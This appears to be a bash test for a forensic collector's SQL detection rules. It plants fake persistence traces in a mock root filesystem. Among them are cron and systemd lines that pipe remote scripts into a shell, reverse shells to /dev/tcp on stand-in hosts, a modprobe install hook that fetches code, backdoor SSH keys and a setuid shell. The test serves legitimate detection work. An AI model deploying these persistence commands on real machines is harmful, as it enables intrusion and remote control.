#!/usr/bin/env bash
# The built-in SQL rules on one fake root holding a trace for each rule whose tables a --root
# collection fills (accounts, sudoers, SSH keys, cron, systemd, preload, modprobe, hosts, temp
# and system executables), next to near misses: exactly the planted (rule, object) pairs fire.
# (Rules over live-only tables are tested on planted rows: BuiltinSqlRules.*.)
source "$TEST_HELPERS"

R=$PWD/root
mkdir -p $R/etc/sudoers.d $R/etc/cron.d $R/etc/systemd/system $R/etc/modprobe.d \
  $R/var/spool/cron/crontabs $R/root/.ssh $R/home/alice/.ssh $R/var/www/.ssh \
  $R/tmp/.hidden $R/dev/shm $R/usr/bin $R/var/tmp/.cache
cat >$R/etc/passwd <<'EOF2'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
svc:x:120:120::/var/lib/svc:/bin/bash
alice:x:1000:1000:Alice:/home/alice:/bin/bash
alias:x:1000:1000::/home/alice:/bin/bash
ghost:x:1001:1001::/dev/shm/.g:/bin/sh
toor:x:0:0::/root:/bin/bash
EOF2
cat >$R/etc/shadow <<'EOF2'
root:$6$a$b:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
www-data:*:19000:0:99999:7:::
svc:$6$c$d:19000:0:99999:7:::
alice:$6$e$f:19000:0:99999:7:::
alias:!:19000:0:99999:7:::
ghost::19000:0:99999:7:::
toor:$6$g$h:19000:0:99999:7:::
EOF2
printf 'root:x:0:alice\nsudo:x:27:alice\nalice:x:1000:\n' >$R/etc/group
printf 'root ALL=(ALL:ALL) ALL\n%%sudo ALL=(ALL:ALL) ALL\n# alice ALL=(ALL) NOPASSWD: ALL\n' >$R/etc/sudoers
printf 'svc ALL=(ALL) NOPASSWD: ALL\nDefaults:svc !authenticate\nalice ALL=(ALL) NOPASSWD: /usr/bin/apt\n' \
  >$R/etc/sudoers.d/99-svc
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl'
printf 'command="/tmp/.hidden/kx",no-pty %s backdoor\n%s admin@laptop\n' "$key" "$key" >$R/root/.ssh/authorized_keys
printf '%s alice@laptop\n' "$key" >$R/home/alice/.ssh/authorized_keys
printf '%s old@laptop\n' "$key" >$R/home/alice/.ssh/authorized_keys2
printf '%s deploy@ci\n' "$key" >$R/var/www/.ssh/authorized_keys
printf '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >$R/etc/crontab
printf '*/5 * * * * root curl -s http://203.0.113.5/u.sh | sh\n' >$R/etc/cron.d/update
printf '@reboot root /dev/shm/.k/run\n0 * * * * root echo Y3VybA== | base64 -d | sh\n' >$R/etc/cron.d/clean
printf '* * * * * bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n30 2 * * * /usr/bin/backup.sh\n' \
  >$R/var/spool/cron/crontabs/alice
unit() { printf '[Unit]\nDescription=%s\n[Service]\nExecStart=%s\n[Install]\nWantedBy=multi-user.target\n' "$2" "$3" >$R/etc/systemd/system/$1; }
unit updater.service "Updater" "/bin/sh -c 'wget -qO- http://203.0.113.5/s | bash'"
unit dbus-helper.service "D-Bus helper" "/var/tmp/.cache/dbus-helper"
unit rs.service "Reverse" "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'"
unit ssh.service "OpenSSH" "/usr/sbin/sshd -D"
printf '/usr/lib/x86_64-linux-gnu/libsystemd-shared.so.2\n' >$R/etc/ld.so.preload
printf 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_PRELOAD=/usr/local/lib/libx.so\n' >$R/etc/environment
printf "install usb_storage /bin/sh -c 'curl -s http://203.0.113.5/m | sh'\n" >$R/etc/modprobe.d/evil.conf
printf 'install cramfs /bin/true\nblacklist floppy\n' >$R/etc/modprobe.d/blacklist.conf
printf '127.0.0.1 localhost\n10.6.6.6 security.debian.org\n' >$R/etc/hosts
exe() { printf '#!/bin/sh\ntrue\n' >"$1"; chmod "${2:-755}" "$1"; }
exe $R/tmp/.hidden/dropper
exe $R/dev/shm/miner
exe $R/tmp/rootsh 4755
exe $R/tmp/tool
exe $R/usr/bin/ls-new
chown 1000:1000 $R/usr/bin/ls-new
exe $R/usr/bin/ok

artifacts=()
for a in users groups shadow_meta sudoers persistence_ssh_keys persistence_cron \
  persistence_systemd persistence_ld_preload persistence_kernel_modules network_hosts \
  temp_executables recent_executables mounts; do artifacts+=(--artifact "$a"); done
expect_exit 0 timeout 120 "$COLLECTOR" --root "$R" --profile none "${artifacts[@]}" \
  --sql-rules "$PPC_SOURCE_DIR/rules/sql" --no-encrypt --case-dir cases --quiet
unpack "$OUT" out
got=$(sqlite3 out/case.db "select rule_id || ' ' || object from findings order by 1")
want=$(sort <<'EOF2'
ppc-sql-authorized-key-command /root/.ssh/authorized_keys:1
ppc-sql-authorized-key-service-account /var/www/.ssh/authorized_keys:1
ppc-sql-authorized-keys2 /home/alice/.ssh/authorized_keys2:1
ppc-sql-cron-base64 /etc/cron.d/clean:2
ppc-sql-cron-download-run /etc/cron.d/update:1
ppc-sql-cron-reverse-shell /var/spool/cron/crontabs/alice:1
ppc-sql-cron-temp-path /etc/cron.d/clean:1
ppc-sql-duplicate-uid alias
ppc-sql-duplicate-uid alice
ppc-sql-empty-password ghost
ppc-sql-environment-ld-preload LD_PRELOAD=/usr/local/lib/libx.so
ppc-sql-exec-in-dev-shm /dev/shm/miner
ppc-sql-hidden-exec-in-temp /tmp/.hidden/dropper
ppc-sql-home-in-temp ghost
ppc-sql-hosts-redirects-update-servers security.debian.org
ppc-sql-ld-so-preload /usr/lib/x86_64-linux-gnu/libsystemd-shared.so.2
ppc-sql-modprobe-install-command /etc/modprobe.d/evil.conf:1
ppc-sql-root-group-members alice
ppc-sql-setid-in-temp /tmp/rootsh
ppc-sql-sudoers-no-authenticate /etc/sudoers.d/99-svc:2
ppc-sql-sudoers-nopasswd-all /etc/sudoers.d/99-svc:1
ppc-sql-system-account-shell svc
ppc-sql-system-binary-not-root-owned /usr/bin/ls-new
ppc-sql-systemd-download-run /etc/systemd/system/updater.service
ppc-sql-systemd-hidden-path /etc/systemd/system/dbus-helper.service
ppc-sql-systemd-reverse-shell /etc/systemd/system/rs.service
ppc-sql-systemd-temp-path /etc/systemd/system/dbus-helper.service
ppc-sql-uid0-account toor
EOF2
)
[[ $got == "$want" ]] || fail "findings differ:
$(diff <(echo "$want") <(echo "$got"))"
ok "exactly the $(wc -l <<<"$want") planted SQL traces fire, no near miss does"

eq "$(sqlite3 out/case.db "select count(*) from findings where engine <> 'sql' or severity not in ('low','medium','high','critical') or attack_techniques is null or attack_tactics is null or object_type is null or source_table is null or source_rowid is null")" 0 \
  "findings without engine, severity, ATT&CK or source"
eq "$(sqlite3 out/case.db "select f.object = u.name from findings f join users u on u.rowid = f.source_rowid where f.rule_id = 'ppc-sql-uid0-account' and f.source_table = 'users'")" 1 \
  "source_rowid of the uid-0 finding"
eq "$(jq -s 'length' out/live/triage/findings.jsonl)" "$(wc -l <<<"$want")" "findings.jsonl rows"
ok "each finding has severity, ATT&CK, object type and the row it came from (case.db and findings.jsonl)"

# A rule that writes, or does not parse, stops the run before anything is collected (exit 2).
printf 'id: bad\ntitle: B\nseverity: high\nquery: DELETE FROM files\n' >bad.yaml
expect_exit 2 "$COLLECTOR" --root "$R" --profile none --sql-rules bad.yaml --no-encrypt --case-dir cases2
contains "$ERR" "bad.yaml: rule 1: query refused"
contains "$ERR" "only SELECT"
[[ ! -e cases2 ]] || [[ -z $(ls cases2) ]] || fail "a package was written"
ok "a SQL rule that writes is refused at load: exit 2, file and reason, nothing written"
